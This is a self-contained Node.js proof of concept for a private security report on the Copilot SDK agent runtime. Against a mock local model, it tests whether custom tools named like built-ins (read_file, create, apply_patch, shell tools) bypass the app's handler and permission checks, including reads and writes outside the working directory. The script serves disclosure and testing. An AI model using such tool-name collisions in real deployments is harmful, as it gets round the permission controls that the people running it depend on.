// NOT FOR A PUBLIC ISSUE: the proof of concept attached to SECURITY-PRIVATE-not-for-a-public-issue.md.
//
// Stand-alone: one file, Node 20 or later, the published @github/copilot-sdk and nothing else. It
// starts the runtime against a mock OpenAI-compatible model on 127.0.0.1 (defined below; no
// account, no network) that calls one tool per session, and prints what happened, raw: the tool
// definitions the model was offered, how often the app's handler ran, every permission request
// the app's permission handler was asked, the tool result the model got back, and every file
// that appeared or changed in the sessions' working directory and in a second folder outside it.
// It prints no verdict.
//
// Part 1: the permission handler records every request and denies it. Part 2: the same handler
// approves every request (as `approveAll` does), for the write-path trials and finding 2.
//
// Run 1, the runtime bundled with the SDK:
//     mkdir poc && cd poc && npm init -y && npm install @github/copilot-sdk@1.0.14
//     node SECURITY-PRIVATE-poc.mjs
// Run 2, runtime 1.0.102, in the same folder:
//     npm install @github/copilot@1.0.102
//     node SECURITY-PRIVATE-poc.mjs
// When @github/copilot's platform package is installed beside the SDK, the PoC starts its binary
// (node_modules/@github/copilot-<platform>-<arch>/copilot); otherwise the SDK's bundled runtime.
// The first lines printed name the SDK and runtime versions. Exit code 0 when every scenario ran.
// Files it writes: only inside two temporary folders it creates and removes at the end.

import { CopilotClient, RuntimeConnection } from "@github/copilot-sdk";
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";

const MODEL = "claude-sonnet-4.5";
const TURN_TIMEOUT_MS = 60_000;
const work = mkdtempSync(join(tmpdir(), "copilot-poc-"));
const marker = join(work, "marker.txt");
writeFileSync(marker, "POC-MARKER-7f3a: this text is only in a file on disk\n");
// A folder beside the working directory, not inside it: the bound of the file tools.
const outside = mkdtempSync(join(tmpdir(), "copilot-poc-outside-"));
const outsideMarker = join(outside, "outside-marker.txt");
writeFileSync(outsideMarker, "POC-OUTSIDE-7f3a: this file is outside the working directory\n");

// ---- the mock model: calls the tool the prompt names, once; answers "done" to its result ----

/** @type {any[]} every /chat/completions request body, in order */
const requests = [];
/** the next tool call: { name, arguments } */
let nextCall;

function answer(body) {
    const last = body.messages.at(-1);
    if (last?.role === "tool" || nextCall === undefined) return { role: "assistant", content: "done" };
    const call = nextCall;
    nextCall = undefined;
    return {
        role: "assistant",
        content: null,
        tool_calls: [
            {
                index: 0,
                id: `call_poc_${requests.length}`,
                type: "function",
                function: { name: call.name, arguments: JSON.stringify(call.arguments) },
            },
        ],
    };
}

const server = createServer((req, res) => {
    let data = "";
    req.on("data", (chunk) => (data += chunk));
    req.on("end", () => {
        if (req.method !== "POST" || !req.url.endsWith("/chat/completions")) {
            res.writeHead(404, { "content-type": "application/json" });
            res.end("{}");
            return;
        }
        const body = JSON.parse(data);
        requests.push(body);
        const message = answer(body);
        const finish = message.tool_calls ? "tool_calls" : "stop";
        const base = { id: `poc-${requests.length}`, created: 0, model: body.model };
        if (body.stream !== true) {
            res.writeHead(200, { "content-type": "application/json" });
            res.end(JSON.stringify({ ...base, object: "chat.completion", choices: [{ index: 0, message, finish_reason: finish }] }));
            return;
        }
        const chunk = (choice) => `data: ${JSON.stringify({ ...base, object: "chat.completion.chunk", choices: [choice] })}\n\n`;
        res.writeHead(200, { "content-type": "text/event-stream" });
        res.end(
            chunk({ index: 0, delta: message, finish_reason: null }) +
                chunk({ index: 0, delta: {}, finish_reason: finish }) +
                "data: [DONE]\n\n"
        );
    });
});
await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
const baseUrl = `http://127.0.0.1:${server.address().port}/v1`;

// ---- the runtime: @github/copilot's binary when installed beside the SDK, else the bundled one ----

const require = createRequire(join(process.cwd(), "package.json"));
let cliPath;
for (let dir = process.cwd(); cliPath === undefined; dir = dirname(dir)) {
    const binary = join(dir, "node_modules", "@github", `copilot-${process.platform}-${process.arch}`, "copilot");
    if (existsSync(binary) || existsSync(`${binary}.exe`)) cliPath = existsSync(binary) ? binary : `${binary}.exe`;
    if (dir === dirname(dir)) break;
}
/** The version of the installed package `name`, read from its package.json (not exported). */
function installedVersion(name) {
    for (let dir = dirname(require.resolve(name)); dir !== dirname(dir); dir = dirname(dir)) {
        const manifest = join(dir, "package.json");
        if (existsSync(manifest) && JSON.parse(readFileSync(manifest, "utf8")).name === name) {
            return JSON.parse(readFileSync(manifest, "utf8")).version;
        }
    }
    return "unknown";
}
const sdkVersion = installedVersion("@github/copilot-sdk");
const client = new CopilotClient({
    baseDirectory: join(work, "copilot-home"),
    ...(cliPath ? { connection: RuntimeConnection.forStdio({ path: cliPath }) } : {}),
});
await client.start();
const status = await client.getStatus();
console.log(`@github/copilot-sdk ${sdkVersion}`);
console.log(`runtime ${status.version} (${cliPath ?? "bundled with the SDK"})`);
console.log(`model id ${MODEL}, provider: mock model at ${baseUrl}`);
console.log(`marker file ${marker}, the sessions' working directory ${work}`);
console.log(`a folder outside the working directory ${outside}, with ${outsideMarker}`);

// ---- one scenario: a session with the given custom tools; the model calls one of them once ----

/** A custom tool whose handler counts its calls; its parameters are those the model will send. */
function tool(name, parameterNames, extra = {}) {
    const properties = Object.fromEntries(parameterNames.map((p) => [p, { type: "string" }]));
    const t = {
        name,
        description: `The app's own ${name}: answers from the app's store, never from disk or a shell.`,
        parameters: { type: "object", properties },
        calls: 0,
        handler: async () => {
            t.calls += 1;
            return `the app's ${name} handler answered`;
        },
        ...extra,
    };
    return t;
}

let failures = 0;
/** Part 1 denies every permission request; part 2 approves every one. */
let approve = false;

/** Every file under `dir` (the runtime's own home left out), with its content. */
function files(dir) {
    const found = new Map();
    for (const entry of readdirSync(dir, { recursive: true, withFileTypes: true })) {
        const path = join(entry.parentPath ?? entry.path, entry.name);
        if (!entry.isFile() || path.includes("copilot-home")) continue;
        found.set(path, readFileSync(path, "utf8"));
    }
    return found;
}

async function scenario(title, { tools, call, availableTools, model = MODEL }) {
    console.log(`\n== ${title}`);
    /** @type {unknown[]} */
    const asked = [];
    const first = requests.length;
    const before = new Map([...files(work), ...files(outside)]);
    let session;
    try {
        session = await client.createSession({
            model,
            provider: { type: "openai", baseUrl, apiKey: "poc-key" },
            workingDirectory: work,
            tools,
            ...(availableTools ? { availableTools } : {}),
            // Records every permission request; denies it in part 1, approves it in part 2.
            onPermissionRequest: (request) => {
                asked.push(request);
                if (approve) return { kind: "approve-once" };
                return { kind: "reject", feedback: "denied by the PoC's permission handler" };
            },
        });
    } catch (error) {
        console.log(`createSession threw: ${error.message}`);
        failures += 1;
        return;
    }
    nextCall = call;
    let sendError;
    try {
        await session.sendAndWait({ prompt: `Call ${call.name} now.` }, TURN_TIMEOUT_MS);
    } catch (error) {
        sendError = error;
    }
    nextCall = undefined;
    const turn = requests.slice(first);
    const offered = (turn[0]?.tools ?? []).filter((t) => (t.function?.name ?? t.custom?.name) === call.name);
    console.log(`model: ${model}; permission handler: ${approve ? "approves" : "denies"} every request`);
    console.log(`model call: ${call.name}(${JSON.stringify(call.arguments)})`);
    console.log(`definitions of ${call.name} offered to the model: ${offered.length}`);
    for (const t of offered) console.log(`  description: ${JSON.stringify(t.function?.description ?? t.custom?.description)}`);
    for (const t of tools) console.log(`app handler ${t.name}: called ${t.calls} time(s)`);
    console.log(`permission handler asked: ${asked.length} time(s)`);
    for (const request of asked) console.log(`  ${JSON.stringify(request).slice(0, 400)}`);
    const results = turn.flatMap((r) => r.messages.filter((m) => m.role === "tool" && m.tool_call_id?.startsWith("call_poc_")));
    const seen = new Set();
    for (const m of results) {
        const text = typeof m.content === "string" ? m.content : JSON.stringify(m.content);
        if (seen.has(m.tool_call_id)) continue;
        seen.add(m.tool_call_id);
        console.log(`tool result sent to the model: ${JSON.stringify(text.length > 600 ? `${text.slice(0, 600)}...` : text)}`);
    }
    if (results.length === 0) console.log("tool result sent to the model: (none)");
    if (sendError) console.log(`sendAndWait threw: ${String(sendError.message).split("\n")[0]}`);
    const written = [...files(work), ...files(outside)].filter(([path, text]) => before.get(path) !== text);
    console.log(`files written or changed: ${written.length}`);
    for (const [path, text] of written) console.log(`  ${path}: ${JSON.stringify(text.slice(0, 200))}`);
    await session.disconnect().catch(() => {});
}

try {
    console.log("\n######## part 1: the permission handler denies every request");

    // Finding 1: a custom tool named like a built-in the runtime does not list, without the flag.
    await scenario("read_file: custom tool, no overridesBuiltInTool", {
        tools: [tool("read_file", ["filePath"])],
        call: { name: "read_file", arguments: { filePath: marker } },
    });
    // The bound: the same call for a file outside the sessions' working directory.
    await scenario("read_file: custom tool, no overridesBuiltInTool, a file outside the working directory", {
        tools: [tool("read_file", ["filePath"])],
        call: { name: "read_file", arguments: { filePath: outsideMarker } },
    });
    // Write-path trials. apply_patch (unlisted on Claude models) with a valid patch that adds a
    // file: the model's call carries it in the app's JSON parameters, as a function call must.
    const patch = "*** Begin Patch\n*** Add File: poc-written.txt\n+POC-WRITE-7f3a\n*** End Patch\n";
    await scenario("apply_patch: custom tool, no overridesBuiltInTool, a valid patch adding a file", {
        tools: [tool("apply_patch", ["input"])],
        call: { name: "apply_patch", arguments: { input: patch } },
    });
    // create: offered to Claude models, unlisted on GPT models (they get apply_patch instead).
    await scenario("create: custom tool, no overridesBuiltInTool, GPT model, a file in the working directory", {
        tools: [tool("create", ["path", "file_text"])],
        call: { name: "create", arguments: { path: join(work, "poc-created.txt"), file_text: "POC-CREATE-7f3a\n" } },
        model: "gpt-4o",
    });

    // Finding 2: custom tools that set overridesBuiltInTool.
    const flagged = [
        ["store_memory", { fact: "POC-MARKER-7f3a", subject: "poc", citations: "poc", reason: "poc", category: "general" }],
        ["powershell", { command: `Get-Content ${marker}`, description: "poc" }],
        ["local_shell", { command: `cat ${marker}` }],
    ];
    for (const [name, args] of flagged) {
        await scenario(`${name}: custom tool with overridesBuiltInTool: true`, {
            tools: [tool(name, Object.keys(args), { overridesBuiltInTool: true })],
            call: { name, arguments: args },
        });
    }

    // Defence in depth (the app registered both tools itself): a custom tool left out of availableTools.
    await scenario("refundOrder: registered by the app, not in availableTools ['custom:lookupOrder']", {
        tools: [tool("lookupOrder", ["orderId"]), tool("refundOrder", ["orderId"])],
        availableTools: ["custom:lookupOrder"],
        call: { name: "refundOrder", arguments: { orderId: "42" } },
    });

    console.log("\n######## part 2: the permission handler approves every request");
    approve = true;
    await scenario("create: custom tool, no overridesBuiltInTool, GPT model, a file in the working directory", {
        tools: [tool("create", ["path", "file_text"])],
        call: { name: "create", arguments: { path: join(work, "poc-created.txt"), file_text: "POC-CREATE-7f3a\n" } },
        model: "gpt-4o",
    });
    await scenario("create: custom tool, no overridesBuiltInTool, GPT model, a file outside the working directory", {
        tools: [tool("create", ["path", "file_text"])],
        call: { name: "create", arguments: { path: join(outside, "poc-created-outside.txt"), file_text: "POC-CREATE-7f3a\n" } },
        model: "gpt-4o",
    });
    for (const [name, args] of flagged) {
        await scenario(`${name}: custom tool with overridesBuiltInTool: true`, {
            tools: [tool(name, Object.keys(args), { overridesBuiltInTool: true })],
            call: { name, arguments: args },
        });
    }
} finally {
    await client.stop().catch(() => {});
    await new Promise((resolve) => server.close(resolve));
    rmSync(work, { recursive: true, force: true });
    rmSync(outside, { recursive: true, force: true });
}
process.exitCode = failures === 0 ? 0 : 1;
